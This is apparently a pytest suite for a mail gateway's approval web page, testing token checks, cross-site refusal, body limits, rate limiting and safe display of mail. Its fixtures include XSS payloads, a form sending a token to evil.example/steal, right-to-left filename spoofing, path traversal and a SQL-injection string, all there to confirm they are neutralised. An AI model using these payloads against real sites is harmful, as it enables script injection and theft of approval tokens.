"""The page over custody with real stores: what it shows, what it takes, what it refuses."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest

from gateway.custody.approvals import Reason, Want
from gateway.custody.codes import Fault
from gateway.custody.steps import Act, Answer
from gateway.errors import StoreUnavailable
from gateway.keeping import State
from gateway.page import words
from gateway.page.bucket import BURST
from gateway.page.forms import BODY_LIMIT, FORM_WITHIN
from gateway.page.site import HEADERS
from gateway.reply import Reply
from tests.custody.conftest import HOLD
from tests.page.conftest import HOLD_ONE, ORIGIN, open_desk, page_of

HOSTILE_HTML = b"""<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">
<script>document.title = 'ran'</script><style>@import url(https://evil.example/s.css)</style></head>
<body onload="fetch('https://evil.example/load')"><p>Dear approver</p></pre></main>
<img src="https://evil.example/pixel.gif" onerror=alert(1)><svg onload=alert(2)><script>alert(3)</script></svg>
<form action="https://evil.example/steal" method=post><input name=token value=x><button name=want value=approve>Go
</button></form><iframe src="https://evil.example/frame"></iframe><a href="javascript:alert(4)">click</a>
<object data="https://evil.example/o"></object><video autoplay src="https://evil.example/v"></video>
&lt;script&gt;alert(5)&lt;/script&gt;<p>after</p><script>never closed"""

HOSTILE = (
    b"From: =?utf-8?q?=3Cscript=3Ealert=280=29=3C/script=3E?= <an@example.gov.vn>\r\n"
    b"Subject: =?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPuKArnR4dC5leGU=?=\r\n"
    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML + b"\r\n"
    b'--b\r\nContent-Type: text/html; name="\xe2\x80\xaefdp.exe<svg onload=alert(6)>"\r\n'
    b'Content-Disposition: attachment; filename="../../etc/a\\"><script>alert(7)</script>.html"\r\n\r\n'
    b"<script>alert(8)</script>\r\n"
    b"--b\r\nContent-Type: image/svg+xml\r\n\r\n<svg onload=alert(9)/>\r\n--b--\r\n"
)


class Tags(HTMLParser):
    """Each tag with its attributes, and the text between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


async def test_page_shows_who_what_and_why(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        shown = await desk.browser.get(desk.path)
        text = Tags(shown.text).text
        assert shown.status_code == 200
        for part in (desk.id, "an@example.gov.vn", "x@example.org", "Hello", "one", "gialai-2022/11.6", "Text."):
            assert part in text
        assert "09:00 ngày 27/11/2026" in text
        assert "b@example.gov.vn" in text


async def test_looking_changes_nothing(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        for method in ("HEAD", "GET", "HEAD", "GET", "HEAD"):
            assert (await desk.browser.request(method, desk.path)).status_code == 200
        assert await desk.house.state(desk.id) is State.WAITING
        assert await desk.house.acts(desk.id) == ["asked", "viewed", "viewed"]
        assert desk.hop.taken == []
        assert (await desk.send("approve", token=await desk.token())).status_code == 200
        assert await desk.house.state(desk.id) is State.RELEASED


@pytest.mark.parametrize("method", ["PUT", "DELETE", "OPTIONS", "PATCH", "TRACE"])
async def test_other_methods_are_not_allowed(tmp_path: Path, method: str) -> None:
    async with open_desk(tmp_path) as desk:
        assert (await desk.browser.request(method, desk.path)).status_code == 405
        assert (await desk.browser.request(method, "/page.css")).status_code == 405
        assert await desk.house.acts(desk.id) == ["asked"]


async def test_approval_is_taken_once_and_a_replay_hears_that_it_was_decided(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        token = await desk.token()
        taken = await desk.send("approve", token=token, comment="Đồng ý")
        assert (taken.status_code, words.ACTS[Act.RELEASED].vi in taken.text) == (200, True)
        for replay in (await desk.send("approve", token=token), await desk.send("reject", token=token, comment="no")):
            assert (replay.status_code, words.DECIDED.vi in replay.text) == (410, True)
        again = await desk.browser.get(desk.path)
        assert (again.status_code, words.DECIDED.en in again.text, "Text." in again.text) == (410, True, False)
        other = await desk.browser.get(f"/decide/{desk.house.code_of('b')}")
        assert (other.status_code, words.DECIDED.en in other.text) == (410, True)
        assert len(desk.hop.taken) == 1


async def test_return_needs_a_reason_and_using_none_costs_nothing(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        token = await desk.token()
        refused = await desk.send("reject", token=token, comment="  ")
        assert (refused.status_code, words.REASONS[Reason.NO_COMMENT].vi in refused.text) == (409, True)
        taken = await desk.send("reject", token=token, comment="Sai người nhận")
        assert (taken.status_code, words.ACTS[Act.REJECTED].vi in taken.text) == (200, True)
        assert await desk.house.state(desk.id) is State.REJECTED
        steps = await desk.house.stores.mail.steps(desk.id)
        assert (steps[-1].actor, steps[-1].comment) == ("a@example.gov.vn", "Sai người nhận")
        assert desk.hop.taken == []


async def test_decision_is_passed_on_to_somebody_of_the_organisation(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        token = await desk.token()
        refused = await desk.send("forward", token=token, to="x@evil.example")
        assert (refused.status_code, words.REASONS[Reason.NO_SUCCESSOR].en in refused.text) == (409, True)
        taken = await desk.send("forward", token=token, to="d@example.gov.vn", comment="please")
        assert (taken.status_code, words.ACTS[Act.FORWARDED].vi in taken.text) == (200, True)
        assert (await desk.browser.get(f"/decide/{desk.house.code_of('d')}")).status_code == 200


async def test_one_vote_of_two_is_taken_down(tmp_path: Path) -> None:
    async with open_desk(tmp_path, text=HOLD) as desk:
        taken = await desk.send("approve", token=await desk.token())
        assert words.ACTS[Act.APPROVED].vi in taken.text
        assert await desk.house.state(desk.id) is State.WAITING


async def test_next_hop_that_does_not_take_it_now_is_told(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        desk.hop.answers.append(Reply(451, "3.0", "<b>later</b>"))
        taken = await desk.send("approve", token=await desk.token())
        assert (taken.status_code, words.ACTS[Act.DEFERRED].vi in taken.text) == (200, True)
        assert "later" not in taken.text


@pytest.mark.parametrize("code", ["A" * 32, "x", "%00", "a%2Fb", "é", "'; drop table codes", "A" * 101, "A" * 5000])
async def test_wrong_code_is_not_found(tmp_path: Path, code: str) -> None:
    async with open_desk(tmp_path) as desk:
        for method in ("GET", "HEAD"):
            assert (await desk.browser.request(method, f"/decide/{code}")).status_code == 404
        assert (await desk.send("approve", path=f"/decide/{code}", token=await desk.token())).status_code in (403, 404)
        assert desk.hop.taken == []


NOWHERE = ("/", "/decide", "/decide/", "/docs", "/favicon.ico", "/decide/../page.css/", "//decide/x")


@pytest.mark.parametrize("path", NOWHERE)
async def test_there_is_no_other_page(tmp_path: Path, path: str) -> None:
    async with open_desk(tmp_path) as desk:
        answer = await desk.browser.get(path)
        assert (answer.status_code, words.NOT_FOUND.vi in answer.text) == (404, True)


async def test_expired_code_decides_nothing(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        token = await desk.token()
        desk.house.clock.forward(days=3)
        for answer in (await desk.browser.get(desk.path), await desk.send("approve", token=token)):
            assert (answer.status_code, words.EXPIRED.vi in answer.text, "Text." in answer.text) == (410, True, False)
        assert await desk.house.state(desk.id) is State.WAITING


FOREIGN = {
    "another site's form": {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
    "a sister domain's form": {"Sec-Fetch-Site": "same-site", "Origin": "https://www.example.gov.vn"},
    "an old browser on another site": {"Sec-Fetch-Site": "same-origin", "Origin": "https://evil.example"},
    "the same host without TLS": {"Origin": ORIGIN.replace("https", "http")},
    "a form typed into the address bar": {"Sec-Fetch-Site": "none"},
}


@pytest.mark.parametrize("headers", FOREIGN.values(), ids=FOREIGN)
async def test_form_of_another_site_is_refused(tmp_path: Path, headers: dict[str, str]) -> None:
    async with open_desk(tmp_path) as desk:
        assert (await desk.send("approve", token=await desk.token(), headers=headers)).status_code == 403
        assert await desk.house.state(desk.id) is State.WAITING
        own = await desk.send("approve", token=await desk.token(), headers={"Origin": ORIGIN})
        assert own.status_code == 200


async def test_token_is_of_this_code_and_of_today(tmp_path: Path) -> None:
    now = 1_800_000_000.0
    async with open_desk(tmp_path) as desk:
        transport = httpx.ASGITransport(page_of(desk.house, clock=lambda: now))
        async with httpx.AsyncClient(transport=transport, base_url=ORIGIN) as browser:
            desk.browser = browser
            token = await desk.token()
            moment, _, proof = token.partition(".")
            later = str(int(moment) + 1)
            for forged in ("", "x", ".", f"{later}.{proof}", f"{moment}.{'0' * 64}", f".{proof}", "é.é", "9" * 5000):
                assert (await desk.send("approve", token=forged)).status_code == 403
            other = f"/decide/{desk.house.code_of('b')}"
            assert (await desk.send("approve", token=token, path=other)).status_code == 403
            now += FORM_WITHIN + 1
            assert (await desk.send("approve", token=token)).status_code == 403
            assert desk.hop.taken == []


BODIES = {
    "larger than a form": (b"want=approve&comment=" + b"a" * BODY_LIMIT, 413),
    "nothing": (b"", 400),
    "another wish": (b"want=delete", 400),
    "two wishes": (b"want=approve&want=reject", 400),
    "no ASCII": (b"want=approve&comment=\xff", 400),
    "too many fields": (b"&".join([b"want=approve"] + [b"f%d=x" % n for n in range(50)]), 400),
    "a comment that is too long": (b"want=approve&comment=" + b"a" * 2001, 400),
    "without a token": (b"want=approve", 403),
}


@pytest.mark.parametrize(("body", "status"), BODIES.values(), ids=BODIES)
async def test_form_that_is_none_of_ours_is_refused(tmp_path: Path, body: bytes, status: int) -> None:
    async with open_desk(tmp_path) as desk:
        kind = {"Content-Type": "application/x-www-form-urlencoded"}
        answer = await desk.browser.post(desk.path, content=body, headers=kind)
        assert answer.status_code == status
        assert await desk.house.acts(desk.id) == ["asked"]


async def test_other_content_types_are_refused(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        for kind in ("text/plain", "multipart/form-data; boundary=b", "application/json", ""):
            answer = await desk.browser.post(desk.path, content=b"want=approve", headers={"Content-Type": kind})
            assert answer.status_code == 415


async def test_hostile_mail_is_shown_as_text_only(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as benign:
        expected = Tags((await benign.browser.get(benign.path)).text)
    (tmp_path / "hostile").mkdir()
    async with open_desk(tmp_path / "hostile", raw=HOSTILE) as desk:
        shown = Tags((await desk.browser.get(desk.path)).text)
        listing = {"table", "tr", "th", "td", "code", "p"}
        assert {tag for tag, _ in shown.tags} - {tag for tag, _ in expected.tags} <= listing
        allowed = {"charset", "name", "content", "rel", "href", "lang", "class", "method", "accept-charset", "type"}
        allowed |= {"autocomplete", "value", "rows", "maxlength"}
        assert {name for _, attributes in shown.tags for name in attributes} <= allowed
        assert [attributes["href"] for _, attributes in shown.tags if "href" in attributes] == ["../page.css"]
        assert [tag for tag, _ in shown.tags].count("form") == 2
        targets = ("<javascript:alert(4)>", "<https://evil.example/steal>")
        for said in ("Dear approver", *targets, "<script>alert(5)", "after"):
            assert said in shown.text
        for hidden in ("\u202e", "pixel.gif", "document.title"):
            assert hidden not in shown.text
        assert "[U+202E]txt.exe" in shown.text
        assert "[U+202E]fdp.exe<svg onload=alert(6)>" in shown.text
        assert '"><script>alert(7)</script>.html' in shown.text


async def test_every_answer_has_the_headers(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        answers = [
            await desk.browser.get(desk.path),
            await desk.browser.head(desk.path),
            await desk.browser.get("/page.css"),
            await desk.browser.get("/nowhere"),
            await desk.send("approve"),
            await desk.send("approve", token=await desk.token()),
            await desk.browser.get(desk.path),
        ]
        for answer in answers:
            assert {name: answer.headers[name] for name in HEADERS} == HEADERS
            assert answer.headers["content-type"] in ("text/html; charset=utf-8", "text/css; charset=utf-8")


async def test_one_client_asks_only_so_often(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        statuses = [(await desk.browser.get("/page.css")).status_code for _ in range(int(BURST) + 20)]
        assert statuses[0] == 200
        assert statuses[-1] == 429


async def test_store_that_is_away_and_errors_of_ours_say_nothing_of_themselves(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        for error, status in ((StoreUnavailable("secret path"), 503), (RuntimeError("secret path"), 500)):

            async def fails(_secret: str, error: Exception = error) -> str:
                raise error

            transport = httpx.ASGITransport(page_of(desk.house, look=fails))
            async with httpx.AsyncClient(transport=transport, base_url=ORIGIN) as browser:
                answer = await browser.get(desk.path)
                assert (answer.status_code, "secret" in answer.text) == (status, False)


def test_everything_that_custody_may_answer_has_words() -> None:
    assert set(words.REASONS) == set(Reason)
    assert set(words.FAULTS) == set(Fault)
    never = {Act.KEPT, Act.ASKED, Act.REMINDED, Act.ESCALATED, Act.VIEWED, Act.TURNED_DOWN, Act.RELEASING}
    never |= {Act.CONFIRMED, Act.REOPENED, Act.DELETED, Act.WITHDRAWN, Act.EXPIRED}
    assert set(words.ACTS) == set(Act) - never
    assert words.said_of(Answer(None, "something new")) == words.NOT_NOW
    assert {want.value for want in Want} == {"approve", "reject", "forward"}


VOTED_BEFORE = HOLD_ONE.replace("      approvers:", "      quorum: 2\n      approvers:") + """
      text: {vi: Chờ duyệt, en: Waits}
"""


async def test_page_shows_who_has_approved_and_what_he_said(tmp_path: Path) -> None:
    async with open_desk(tmp_path, text=VOTED_BEFORE) as desk:
        text = Tags((await desk.browser.get(desk.path)).text).text
        assert "0 / 2" in text
        assert "Who has approved" not in text
        said = "đúng mẫu <script>alert(1)</script>\u202e"
        desk.house.clock.forward(hours=1)
        answer = await desk.house.custody.approve(desk.id, "b@example.gov.vn", said)
        assert answer.act is Act.APPROVED
        shown = Tags((await desk.browser.get(desk.path)).text)
        assert "1 / 2" in shown.text
        table = shown.text.partition("Who has approved")[2].partition("Attachments")[0]
        for part in ("b@example.gov.vn", "10:00 ngày 24/11/2026", "đúng mẫu <script>alert(1)</script>[U+202E]"):
            assert part in table
        assert "script" not in [tag for tag, _ in shown.tags]


async def test_page_shows_for_whom_a_delegate_has_approved(tmp_path: Path) -> None:
    acting = "{approver: b@example.gov.vn, delegate: d@example.gov.vn, from: 2026-11-01, until: 2026-11-30}"
    text = VOTED_BEFORE.replace("officers:", f"delegates: [{acting}], officers:")
    async with open_desk(tmp_path, text=text) as desk:
        await desk.house.custody.approve(desk.id, "d@example.gov.vn")
        shown = Tags((await desk.browser.get(desk.path)).text).text
        assert "d@example.gov.vn (thay / for b@example.gov.vn)" in shown
